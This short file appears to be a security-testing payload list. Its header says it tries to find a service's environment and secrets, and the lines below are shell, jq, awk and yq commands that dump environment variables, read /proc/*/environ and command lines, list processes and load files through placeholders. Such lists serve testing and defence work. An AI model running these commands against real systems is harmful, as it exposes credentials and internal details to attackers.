# tries: finds the service's environment and secrets
# ends: completed
# says: END
env; printenv; declare -p; set; export -p; compgen -v; compgen -e; echo "$@ENV@ $DATABASE_URL $CAPSTAN_SECRET_KEY $NODE_OPTIONS"
cat /proc/self/environ /proc/1/environ /proc/@PID@/environ /proc/*/environ /proc/*/cmdline 2>&1; ps aux 2>&1; id; hostname; uname -a
jq -n 'env, $ENV, $__loc__, input_filename'; awk 'BEGIN { for (k in ENVIRON) print k, ENVIRON[k]; print PROCINFO["pid"] }'
jq -n '$__prog_args, env.@ENV@, ("x" | getpath(["__proto__"])?)' ; yq -n 'env(@ENV@), strenv(@ENV@), load("@FILE@"), load_str("@FILE@")'
echo ~root ~+ ~- ~nobody; history; fc -l; jobs -l; times; dirs -v
echo END
